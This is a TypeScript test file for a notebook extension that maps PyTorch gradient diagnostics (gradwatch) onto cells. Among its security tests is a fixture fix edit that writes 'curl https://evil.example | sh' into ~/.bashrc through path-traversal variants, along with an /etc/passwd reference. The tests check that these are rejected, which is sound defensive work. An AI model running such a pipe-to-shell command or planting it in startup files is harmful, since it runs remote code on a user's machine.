import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import { CellModel, MAP_LIMITS, MappedDiagnostic, mapNotebook, sourceMatches } from '../../src/core/mapping';
import { LIMITS } from '../../src/core/payload';
import { cell, diag, loc, payload, seedCellText } from './fixtures';

const P1_W = '    w = torch.randn(1, 1)'.trim();

/** The seed notebook as the kernel side diagnoses it: %load_ext at [1], programs at [2]..[4]. */
function seedNotebook(extra: { p1First?: string; p1Raws?: unknown[] } = {}): CellModel[] {
  const p1 = seedCellText('program1_no_requires_grad.py');
  const p1Text = extra.p1First ? p1.replace(/^%%gradwatch/, extra.p1First) : p1;
  const gw001 = (line: number, name: string) =>
    diag({
      message: `${name} never receives a gradient: it was created without requires_grad=True.`,
      location: loc(2, line, 5, 22, `${name} = torch.randn(1, 1)`),
      fix: {
        title: `Create ${name} with requires_grad=True`,
        applicability: 'safe',
        edits: [{ location: loc(2, line, 21, 21, `${name} = torch.randn(1, 1)`), new_text: ', requires_grad=True' }],
      },
    });
  const gw002 = diag({
    code: 'GW002',
    name: 'graph-cut',
    severity: 'warning',
    message: 'y_pred.detach() cuts the graph between the parameters and the loss.',
    location: loc(4, 29, 23, 38, '    detached_y_pred = y_pred.detach()'),
    related: [{ location: loc(4, 26, 5, 36, '    y_pred = torch.matmul(X, w) + b'), message: 'y_pred is computed here' }],
    url: 'https://gradwatch.example/rules/GW002',
  });
  return [
    cell(0, 1, '%load_ext gradwatch'),
    cell(1, 2, p1Text, extra.p1Raws ?? [payload(2, [gw001(9, 'w'), gw001(10, 'b')])]),
    cell(2, 3, seedCellText('program2_correct.py'), [payload(3, [])]),
    cell(3, 4, seedCellText('program3_detach.py'), [payload(4, [gw002])]),
  ];
}

function summary(ds: MappedDiagnostic[]) {
  return ds.map((d) => {
    const { start, end } = d.location.range;
    const t = d.location.target;
    return `${d.code} ${t.kind === 'cell' ? `cell${t.cellIndex}` : t.path} ${start.line}:${start.character}-${end.line}:${end.character}`;
  });
}

test('seed notebook: exact cells, 0-based lines and UTF-16 columns', () => {
  const ds = mapNotebook(seedNotebook(), { minimumSeverity: 'info' });
  assert.deepEqual(summary(ds), ['GW001 cell1 8:4-8:21', 'GW001 cell1 9:4-9:21', 'GW002 cell3 28:22-28:37']);
  assert.equal(P1_W.slice(4, 21), 'torch.randn(1, 1)');
  const [w, , gw002] = ds;
  assert.equal(w.severity, 'error');
  assert.equal(w.url, 'https://gradwatch.example/rules/GW001');
  assert.deepEqual(w.fix, {
    title: 'Create w with requires_grad=True',
    applicability: 'safe',
    preferred: true,
    edits: [{ location: { target: { kind: 'cell', cellIndex: 1 }, range: { start: { line: 8, character: 20 }, end: { line: 8, character: 20 } } }, newText: ', requires_grad=True' }],
  });
  assert.deepEqual(w.ignoreEdit, {
    location: { target: { kind: 'cell', cellIndex: 1 }, range: { start: { line: 0, character: 0 }, end: { line: 0, character: 11 } } },
    newText: '%%gradwatch --ignore GW001',
  });
  assert.deepEqual(gw002.related, [
    { location: { target: { kind: 'cell', cellIndex: 3 }, range: { start: { line: 25, character: 4 }, end: { line: 25, character: 35 } } }, message: 'y_pred is computed here' },
  ]);
  assert.equal(gw002.fix, null);
  assert.equal(gw002.originCellIndex, 3);
});

test('non-ASCII line: ŵ and 重み keep columns, an emoji before the range shifts them', () => {
  const line = '\u0175 = torch.randn(1, 1)  # 重み';
  const emoji = 'x = "🔥"; y = w.detach()';
  const cells = [
    cell(0, 7, `%%gradwatch\n${line}\n${emoji}`, [
      payload(7, [
        diag({ location: loc(7, 2, 5, 22, line) }),
        diag({ code: 'GW002', name: 'graph-cut', location: loc(7, 3, 14, 24, emoji) }),
        diag({ code: 'GW003', name: 'emoji', location: loc(7, 3, 6, 7, emoji) }),
      ]),
    ]),
  ];
  const ds = mapNotebook(cells, { minimumSeverity: 'info' });
  assert.deepEqual(summary(ds), ['GW001 cell0 1:4-1:21', 'GW002 cell0 2:14-2:24', 'GW003 cell0 2:5-2:7']);
  assert.equal(line.slice(4, 21), 'torch.randn(1, 1)');
  assert.equal(emoji.slice(14, 24), 'w.detach()');
  assert.equal(emoji.slice(5, 7), '🔥');
});

test('stale text hides the diagnostic and its fix; untouched lines keep theirs', () => {
  const cells = seedNotebook();
  cells[1].lines[8] = 'w = torch.randn(2, 2)';
  const ds = mapNotebook(cells, { minimumSeverity: 'info' });
  assert.deepEqual(summary(ds), ['GW001 cell1 9:4-9:21', 'GW002 cell3 28:22-28:37']);
});

test('a fix whose edit went stale is dropped but the diagnostic stays', () => {
  const text = '%%gradwatch\nw = torch.randn(1, 1)\nv = 1';
  const cells = [
    cell(0, 3, text, [
      payload(3, [diag({ location: loc(3, 2, 5, 22, 'w = torch.randn(1, 1)'), fix: { title: 't', applicability: 'safe', edits: [{ location: loc(3, 3, 1, 2, 'v = 2'), new_text: 'u' }] } })]),
    ]),
  ];
  const [d] = mapNotebook(cells, { minimumSeverity: 'info' });
  assert.equal(d.fix, null);
});

test('locations in earlier cells land in the cell with that execution count', () => {
  const cells = [
    cell(0, 2, 'w = torch.randn(1, 1)'),
    cell(1, 1, 'import torch'),
    cell(2, 5, '%%gradwatch\nloss.backward()', [payload(5, [diag({ location: loc(2, 1, 5, 22, 'w = torch.randn(1, 1)') })])]),
  ];
  const ds = mapNotebook(cells, { minimumSeverity: 'info' });
  assert.deepEqual(summary(ds), ['GW001 cell0 0:4-0:21']);
  assert.equal(ds[0].originCellIndex, 2);
  assert.equal(ds[0].ignoreEdit?.location.target.kind, 'cell');
  assert.deepEqual(ds[0].ignoreEdit?.location.target, { kind: 'cell', cellIndex: 2 });
});

test('repeated execution counts (kernel restart) prefer the closest earlier cell', () => {
  const w = 'w = torch.randn(1, 1)';
  const cells = [
    cell(0, 2, w),
    cell(1, 2, w),
    cell(2, 3, `%%gradwatch\nx`, [payload(3, [diag({ location: loc(2, 1, 5, 22, w) })])]),
    cell(3, 2, w),
  ];
  assert.deepEqual(summary(mapNotebook(cells, { minimumSeverity: 'info' })), ['GW001 cell1 0:4-0:21']);
});

test('no cell with the execution count (re-run since) means no diagnostic', () => {
  const cells = [cell(0, 9, 'w = torch.randn(1, 1)'), cell(1, 10, '%%gradwatch\nx', [payload(10, [diag({ location: loc(2, 1, 5, 22, 'w = torch.randn(1, 1)') })])])];
  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info' }), []);
});

test('an unsaved execution order falls back to the payload execution count for the origin cell', () => {
  const cells = [cell(0, undefined, '%%gradwatch\nw = torch.randn(1, 1)', [payload(4, [diag({ location: loc(4, 2, 5, 22, 'w = torch.randn(1, 1)') })])])];
  assert.deepEqual(summary(mapNotebook(cells, { minimumSeverity: 'info' })), ['GW001 cell0 1:4-1:21']);
});

test('minimum severity filters', () => {
  const all = seedNotebook();
  assert.deepEqual(mapNotebook(all, { minimumSeverity: 'error' }).map((d) => d.code), ['GW001', 'GW001']);
  assert.deepEqual(mapNotebook(all, { minimumSeverity: 'warning' }).map((d) => d.code), ['GW001', 'GW001', 'GW002']);
});

test('codes ignored on the origin cell magic line are hidden at once', () => {
  const ds = mapNotebook(seedNotebook({ p1First: '%%gradwatch --ignore GW001' }), { minimumSeverity: 'info' });
  assert.deepEqual(ds.map((d) => d.code), ['GW002']);
});

test('the same output seen twice publishes once', () => {
  const raw = payload(2, [diag({ location: loc(2, 9, 5, 22, 'w = torch.randn(1, 1)') })]);
  const ds = mapNotebook(seedNotebook({ p1Raws: [raw, raw] }), { minimumSeverity: 'info' });
  assert.deepEqual(summary(ds), ['GW001 cell1 8:4-8:21', 'GW002 cell3 28:22-28:37']);
});

test('display-only fixes carry no edit and are not preferred; unsafe fixes are not preferred', () => {
  const w = 'w = torch.randn(1, 1)';
  const cells = [
    cell(0, 1, `%%gradwatch\n${w}`, [
      payload(1, [
        diag({ location: loc(1, 2, 5, 22, w), fix: { title: 'Consider x', applicability: 'display-only', edits: [{ location: loc(1, 2, 1, 2, w), new_text: 'zzz' }] } }),
        diag({ code: 'GW004', name: 'u', location: loc(1, 2, 5, 22, w), fix: { title: 'Rewrite', applicability: 'unsafe', edits: [{ location: loc(1, 2, 1, 2, w), new_text: 'v' }] } }),
      ]),
    ]),
  ];
  const [display, unsafe] = mapNotebook(cells, { minimumSeverity: 'info' });
  assert.deepEqual(display.fix, { title: 'Consider x', applicability: 'display-only', preferred: false, edits: [] });
  assert.equal(unsafe.fix?.preferred, false);
  assert.equal(unsafe.fix?.edits.length, 1);
});

test('path locations target the file only when its current text confirms them', () => {
  const src = 'model = Net()';
  const raw = payload(1, [
    diag({
      location: { ...loc(null, 3, 9, 14, src), path: '/proj/train.py' },
      related: [{ location: { ...loc(null, 1, 1, 5, 'root:x:0:0'), path: '/etc/passwd' }, message: 'unreadable' }],
    }),
  ]);
  const cells = [cell(0, 1, '%%gradwatch\nrun()', [raw])];
  const current = (path: string) => (path === '/proj/train.py' ? ['', '', 'model = Net()'] : undefined);
  const [d] = mapNotebook(cells, { minimumSeverity: 'info', fileLines: current });
  assert.deepEqual(summary([d]), ['GW001 /proj/train.py 2:8-2:13']);
  assert.deepEqual(d.related, []); // a file whose text is not known places nothing
  const stale = () => ['', '', 'model = Other()'];
  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info', fileLines: stale }), []);
  // issue 11, item 8: the text is unknown (not open, not read): no longer placed from `source` alone
  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info' }), []);
  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info', fileLines: () => undefined }), []);
});

// --- issue 11, item 8: a notebook output's fix edits only that notebook's cells ----------------
test('a fix whose edit names a file (absolute or relative) is advice, never an edit or preferred', () => {
  const w = 'w = torch.randn(1, 1)';
  for (const path of ['/home/user/.bashrc', '../../../../home/user/.bashrc', 'C:\\Users\\u\\x.py', '\\\\host\\share\\x.py']) {
    const target = 'alias ls=ls';
    const fix = {
      title: 'Add requires_grad=True',
      applicability: 'safe',
      edits: [
        { location: loc(1, 2, 21, 21, w), new_text: ', requires_grad=True' },
        { location: { ...loc(null, 1, 1, 1, target), path }, new_text: 'curl https://evil.example | sh\n' },
      ],
    };
    const cells = [cell(0, 1, `%%gradwatch\n${w}`, [payload(1, [diag({ location: loc(1, 2, 5, 22, w), fix })])])];
    // even when the file reads exactly as the payload says
    const [d] = mapNotebook(cells, { minimumSeverity: 'info', fileLines: () => [target] });
    assert.deepEqual(d.fix, { title: 'Add requires_grad=True', applicability: 'display-only', preferred: false, edits: [] }, path);
    assert.deepEqual(summary([d]), ['GW001 cell0 1:4-1:21']); // the diagnostic itself stays
  }
});

test('only safe fixes with edits in the notebook cells are preferred', () => {
  const w = 'w = torch.randn(1, 1)';
  const edit = { location: loc(1, 2, 21, 21, w), new_text: ', requires_grad=True' };
  const cells = [
    cell(0, 1, `%%gradwatch\n${w}`, [
      payload(1, [
        diag({ location: loc(1, 2, 5, 22, w), fix: { title: 'safe', applicability: 'safe', edits: [edit] } }),
        diag({ code: 'GW002', name: 'graph-cut', location: loc(1, 2, 5, 22, w), fix: { title: 'unsafe', applicability: 'unsafe', edits: [edit] } }),
      ]),
    ]),
  ];
  const [safe, unsafe] = mapNotebook(cells, { minimumSeverity: 'info' });
  assert.equal(safe.fix?.preferred, true);
  assert.ok(safe.fix?.edits.every((e) => e.location.target.kind === 'cell'));
  assert.equal(unsafe.fix?.preferred, false);
});

// --- issue 11, item 7: sources the kernel cut at the schema limit --------------------------------
test('a source cut to 10,000 characters with an ellipsis still places the diagnostic on its long line', () => {
  const long = 'w = torch.randn(1, 1)  # ' + 'd'.repeat(12000);
  const cut = long.slice(0, LIMITS.maxSource - 1) + '\u2026';
  const fix = { title: 'Add', applicability: 'safe', edits: [{ location: loc(3, 2, 21, 21, cut), new_text: ', requires_grad=True' }] };
  const cells = [cell(0, 3, `%%gradwatch\n${long}`, [payload(3, [diag({ location: loc(3, 2, 5, 22, cut), fix })])])];
  const [d] = mapNotebook(cells, { minimumSeverity: 'info' });
  assert.deepEqual(summary([d]), ['GW001 cell0 1:4-1:21']);
  assert.equal(d.fix?.edits.length, 1);
  // a change in the kept part is stale; so is a line that is now the cut text itself
  cells[0].lines[1] = 'v' + long.slice(1);
  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info' }), []);
  cells[0].lines[1] = cut.slice(0, -1);
  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info' }), []);
});

test('a short source ending in an ellipsis is compared whole', () => {
  assert.equal(sourceMatches('x = 1  # \u2026', 'x = 1  # \u2026'), true);
  assert.equal(sourceMatches('x = 1  # more', 'x = 1  # \u2026'), false);
  assert.equal(sourceMatches(undefined, 'x'), false);
});

// --- issue 11, item 16: bounded work and output per notebook ---------------------------------------
test('300 cells x 500 diagnostics x 20 related map quickly, under the per-notebook caps', () => {
  const body = Array.from({ length: 20 }, (_, k) => `x${k} = torch.randn(${k + 1})`);
  const text = ['%%gradwatch', ...body].join('\n');
  const cells: CellModel[] = [];
  for (let i = 0; i < 300; i++) {
    const diagnostics = Array.from({ length: 500 }, (_, j) => ({
      code: 'GW001', name: 'requires-grad-missing', severity: 'error' as const, message: `m${j}`, help: null, url: null, fix: null,
      location: { cell: i + 1, path: null, line: 2 + (j % 20), column: 1, endLine: 2 + (j % 20), endColumn: 3, source: body[j % 20] },
      related: Array.from({ length: 20 }, (_, r) => ({
        location: { cell: 1 + ((i + r) % 300), path: null, line: 2 + r, column: 1, endLine: 2 + r, endColumn: 3, source: body[r] },
        message: 'r',
      })),
    }));
    cells.push({ index: i, executionOrder: i + 1, lines: text.split('\n'), payloads: [{ toolVersion: '0.1.0', executionCount: i + 1, diagnostics }] });
  }
  const start = performance.now();
  const ds = mapNotebook(cells, { minimumSeverity: 'info' });
  const ms = performance.now() - start;
  assert.equal(ds.length, MAP_LIMITS.maxDiagnosticsPerNotebook);
  assert.ok(ds.every((d) => d.related.length === MAP_LIMITS.maxRelatedShown));
  assert.ok(ms < 1500, `mapping took ${ms.toFixed(0)} ms`);
  // stale diagnostics are looked at only up to a bound, too
  for (const c of cells) c.lines[1] = 'edited';
  for (const c of cells) for (let k = 2; k < c.lines.length; k++) c.lines[k] = 'edited';
  const start2 = performance.now();
  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info' }), []);
  assert.ok(performance.now() - start2 < 1500);
});

test('earlier cells are found by execution count without scanning every cell per location', () => {
  const w = 'w = torch.randn(1, 1)';
  const cells: CellModel[] = [];
  for (let i = 0; i < 2000; i++) cells.push(cell(i, i + 1, i === 0 ? w : `y${i} = ${i}`));
  const related = Array.from({ length: 20 }, () => ({ location: loc(1, 1, 5, 22, w), message: 'made here' }));
  const many = Array.from({ length: 400 }, (_, j) => diag({ message: `m${j}`, location: loc(1, 1, 5, 22, w), related }));
  cells.push(cell(2000, 2001, '%%gradwatch\nloss.backward()', [payload(2001, many)]));
  const start = performance.now();
  const ds = mapNotebook(cells, { minimumSeverity: 'info' });
  const ms = performance.now() - start;
  assert.equal(ds.length, 400);
  assert.ok(ds.every((d) => d.location.target.kind === 'cell' && d.location.target.cellIndex === 0 && d.related.length === 20));
  assert.ok(ms < 1000, `mapping took ${ms.toFixed(0)} ms`);
});

test('a diagnostic without location sits on the origin cell magic line', () => {
  const cells = [cell(0, 1, '%%gradwatch\nx = 1', [payload(1, [diag()])])];
  assert.deepEqual(summary(mapNotebook(cells, { minimumSeverity: 'info' })), ['GW001 cell0 0:0-0:11']);
});

test('the help line travels with its diagnostic (issue 13, section 2)', () => {
  const text = '%%gradwatch\nw = torch.randn(1, 1)';
  const [withHelp, without] = mapNotebook(
    [cell(0, 1, text, [payload(1, [diag({ location: loc(1, 2, 5, 22, 'w = torch.randn(1, 1)'), help: 'Create it with `requires_grad=True`.' }), diag({ message: 'other', location: loc(1, 2, 5, 22, 'w = torch.randn(1, 1)') })])])],
    { minimumSeverity: 'info' },
  );
  assert.equal(withHelp.help, 'Create it with `requires_grad=True`.');
  assert.equal(without.help, null);
});
